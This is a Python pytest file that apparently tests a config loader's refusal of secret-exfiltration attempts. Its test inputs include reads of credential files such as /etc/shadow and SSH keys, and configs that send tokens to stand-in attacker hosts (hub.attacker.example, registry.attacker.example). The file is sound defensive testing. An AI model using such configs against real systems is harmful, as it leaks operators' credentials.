"""What a Cortexfile (whoever pushed it) may read and send: secret files below its own folder, /etc/cortex,
/run/secrets or /run/credentials, links included; env vars for the secrets it sends to servers only when set
aside for it; tokens and proxy passwords never in clear text across the network."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from menlo_cortex.cortexfile.errors import ConfigError
from menlo_cortex.cortexfile.loader import load
from menlo_cortex.cortexfile.preflight import Phase, preflight

from tests.runtime.download_servers import Route, file_server, gguf_bytes, sha256_of

CORTEX = str(Path(sys.executable).parent / "cortex")
HUB = "version: 1\nnetwork:\n  huggingface:\n    token: '{}'\n"


def refusals(path: Path, environ: dict[str, str] | None = None) -> list[str]:
    try:
        load(path, environ=environ or {})
    except ConfigError as exc:
        return [str(d) for d in exc.diagnostics if d.severity.name == "error"]
    return []


@pytest.mark.parametrize("target", ["/etc/shadow", "/root/.ssh/id_ed25519", "/proc/self/environ", "/run/other/x"])
def test_a_secret_file_outside_the_set_aside_folders_is_a_located_error(
    target: str, write_cortexfile: Callable[..., Path]
) -> None:
    path = write_cortexfile(HUB.format("${file:" + target + "}"))
    assert refusals(path) == [
        f"{path}:4:12: network.huggingface.token: a secret file the Cortexfile names must be below its own folder, "
        "/etc/cortex, /run/secrets, /run/credentials (give the secret through an env var or a flag instead, or move "
        "the file there)"
    ]


@pytest.mark.parametrize(
    "target", ["keys/hub", "/etc/cortex/hub-token", "/run/secrets/hub/token", "/run/credentials/c/t"]
)
def test_the_set_aside_folders_are_fine(target: str, write_cortexfile: Callable[..., Path]) -> None:
    assert refusals(write_cortexfile(HUB.format("${file:" + target + "}"))) == []


def test_a_link_beside_the_cortexfile_that_leads_out_is_refused_by_the_preflight(tmp_path: Path) -> None:
    (tmp_path / "token").symlink_to("/etc/hostname")
    path = tmp_path / "Cortexfile.yaml"
    path.write_text(HUB.format("${file:token}"))
    resolved = load(path)  # as written, the path is beside the file
    problems = [str(d) for d in preflight(resolved, Phase.start, environ={})]
    assert problems == [
        f"{path}:4:12: network.huggingface.token: secret file {tmp_path / 'token'} is a link that leads out of the "
        "folders the Cortexfile may read"
    ]


@pytest.mark.parametrize(("name", "declared", "refused"), [
    ("AWS_SECRET_ACCESS_KEY", "", True),
    ("AWS_SECRET_ACCESS_KEY", "AWS_SECRET_ACCESS_KEY", False),
    ("AWS_SECRET_ACCESS_KEY", "AWS_*,OTHER", False),
    ("HF_TOKEN", "", False),
    ("CORTEX_HUB_TOKEN", "", False),  # a CORTEX_ name of the operator's
    ("CORTEX_NETWORK__HUGGINGFACE__TOKEN", "", False),  # the setting's own variable
    ("CORTEX_SERVER__AUTH__API_KEYS", "", True),  # another setting's: the API keys would go to the hub
    ("HTTPS_PROXY", "", True),  # a usual name, but another setting's
    ("GH_TOKEN", "", True),
])  # fmt: skip
def test_an_env_secret_sent_to_a_server_must_be_set_aside(
    name: str, declared: str, refused: bool, write_cortexfile: Callable[..., Path]
) -> None:
    path = write_cortexfile(HUB.format("${env:" + name + "}"))
    found = refusals(path, {"CORTEX_SECRET_ENV": declared} if declared else {})
    assert bool(found) == refused, found
    if refused:
        assert f"only set-aside env vars to a server: `{name}` is not one" in found[0]


def test_secrets_that_stay_here_and_the_operators_own_are_free(write_cortexfile: Callable[..., Path]) -> None:
    keys = write_cortexfile("version: 1\nserver:\n  auth:\n    api_keys: ['${env:ANY_NAME}']\n")
    assert refusals(keys) == []  # compared with what clients send, never sent anywhere
    hub = write_cortexfile("version: 1\n")
    resolved = load(hub, environ={"CORTEX_NETWORK__HUGGINGFACE__TOKEN": "${env:AWS_SECRET_ACCESS_KEY}"})
    assert resolved.config.network.huggingface.token is not None  # the operator's env: their choice


@pytest.mark.parametrize(("network", "words"), [
    ("huggingface:\n    endpoint: http://hub.corp\n    token: ${env:HF_TOKEN}", "the hub token would cross"),
    ("proxy:\n    url: http://proxy.corp:3128\n    username: u\n    password: ${env:PROXY_PASSWORD}",
     "the proxy password would cross the network"),
    ("proxy:\n    url: http://u:p@proxy.corp:3128", "the proxy password would cross the network"),
])  # fmt: skip
def test_tokens_and_proxy_passwords_never_cross_the_network_in_clear_text(
    network: str, words: str, write_cortexfile: Callable[..., Path]
) -> None:
    declared = {"CORTEX_SECRET_ENV": "HF_TOKEN,PROXY_PASSWORD"}
    found = refusals(write_cortexfile(f"version: 1\nnetwork:\n  {network}\n"), declared)
    assert any(words in problem for problem in found), found


@pytest.mark.parametrize("network", [
    "huggingface:\n    endpoint: http://127.0.0.1:8080\n    token: ${env:HF_TOKEN}",
    "proxy:\n    url: http://127.0.0.1:3128\n    username: u\n    password: ${env:PROXY_PASSWORD}",
    "proxy:\n    url: https://proxy.corp:3128\n    username: u\n    password: ${env:PROXY_PASSWORD}",
])  # fmt: skip
def test_loopback_and_tls_are_fine(network: str, write_cortexfile: Callable[..., Path]) -> None:
    declared = {"CORTEX_SECRET_ENV": "HF_TOKEN,PROXY_PASSWORD"}
    assert refusals(write_cortexfile(f"version: 1\nnetwork:\n  {network}\n"), declared) == []


@pytest.mark.parametrize(("network", "environ"), [
    # the operator's hub token (its usual name), to a hub the file chose
    ("huggingface:\n    endpoint: https://hub.attacker.example\n    token: ${env:HF_TOKEN}", {}),
    # the operator's own setting, to a hub the file chose
    ("huggingface:\n    endpoint: https://hub.attacker.example",
     {"CORTEX_NETWORK__HUGGINGFACE__TOKEN": "hf_operator"}),
    # a file of the machine, to a proxy the file chose
    ("proxy:\n    url: https://proxy.attacker.example\n    username: x\n    password: ${file:/etc/cortex/keys}", {}),
])  # fmt: skip
def test_a_secret_not_the_files_own_never_goes_where_the_file_chose(
    network: str, environ: dict[str, str], write_cortexfile: Callable[..., Path]
) -> None:
    found = refusals(write_cortexfile(f"version: 1\nnetwork:\n  {network}\n"), environ)
    assert any("the Cortexfile chose where" in problem and "is not the file's own" in problem for problem in found), (
        found
    )


def test_a_destination_the_operator_chose_or_a_secret_the_file_holds_is_fine(
    write_cortexfile: Callable[..., Path],
) -> None:
    own = write_cortexfile("version: 1\nnetwork:\n  huggingface:\n    endpoint: https://hub.corp\n    token: hf_x\n")
    assert refusals(own) == []  # the file's own token, to the file's own hub
    operators = write_cortexfile("version: 1\nnetwork:\n  huggingface:\n    token: ${env:HF_TOKEN}\n")
    assert refusals(operators, {"CORTEX_NETWORK__HUGGINGFACE__ENDPOINT": "https://hub.corp"}) == []
    consented = write_cortexfile("version: 1\nnetwork:\n  huggingface:\n    endpoint: https://hub.corp\n"
                                 "    token: ${env:CORP_HUB_TOKEN}\n")  # fmt: skip
    assert refusals(consented, {"CORTEX_SECRET_ENV": "CORP_HUB_TOKEN"}) == []


def test_a_pushed_cortexfile_cannot_send_an_env_var_to_its_own_hub(tmp_path: Path) -> None:
    """Sends: what a commit to a followed repository could hold, a hub of the pusher's choosing and a token read
    from an env var the operator set for something else; `cortex pull` on the device. Before: the hub got it."""
    body = gguf_bytes(seed=3)
    with file_server() as hub:
        hub.routes["/org/repo/resolve/main/m.gguf"] = Route(body)
        path = tmp_path / "Cortexfile.yaml"
        path.write_text(
            f"version: 1\nnetwork:\n  huggingface:\n    endpoint: '{hub.url('')}'\n"
            "    token: '${env:DATABASE_PASSWORD}'\n"
            f"models:\n  - id: m\n    source: hf://org/repo/m.gguf\n    sha256: {sha256_of(body)}\n"
        )
        env = {**os.environ, "DATABASE_PASSWORD": "s3cret-db-password"}
        done = subprocess.run([CORTEX, "pull", "-f", str(path), "--datapath", str(tmp_path / "data")],
                              capture_output=True, text=True, env=env, timeout=120, check=False)  # fmt: skip
        seen = list(hub.seen)
    assert done.returncode == 2, done.stderr
    assert "`DATABASE_PASSWORD` is not one" in done.stderr
    assert "s3cret-db-password" not in done.stderr + done.stdout
    assert seen == []


UPDATES = (
    "version: 1\ndevice:\n  updates:\n    url: oci://registry.attacker.example/x:1\n    trusted_keys: [/etc/k.asc]\n"
)


@pytest.mark.parametrize(("token", "environ"), [
    ("${file:/etc/cortex/api-keys}", {}),  # a file of the device, to a registry the file chose
    ("${env:HF_TOKEN}", {}),  # an env var set for something else
])  # fmt: skip
def test_a_pushed_cortexfile_cannot_send_the_devices_secrets_to_its_own_registry(
    token: str, environ: dict[str, str], write_cortexfile: Callable[..., Path]
) -> None:
    found = refusals(write_cortexfile(UPDATES + f"    registry_token: {token}\n"), environ)
    assert any("device.updates.registry_token" in problem for problem in found), found


def test_the_operators_registry_token_goes_where_the_operator_says(write_cortexfile: Callable[..., Path]) -> None:
    keys = "version: 1\ndevice:\n  updates:\n    trusted_keys: [/etc/k.asc]\n"
    operators = {
        "CORTEX_DEVICE__UPDATES__URL": "oci://registry.corp/fleet:1",
        "CORTEX_DEVICE__UPDATES__REGISTRY_TOKEN": "t",
    }
    assert refusals(write_cortexfile(keys), operators) == []
    declared = write_cortexfile(UPDATES + "    registry_token: ${env:FLEET_PULL}\n")
    assert refusals(declared, {"CORTEX_SECRET_ENV": "FLEET_PULL"}) == []
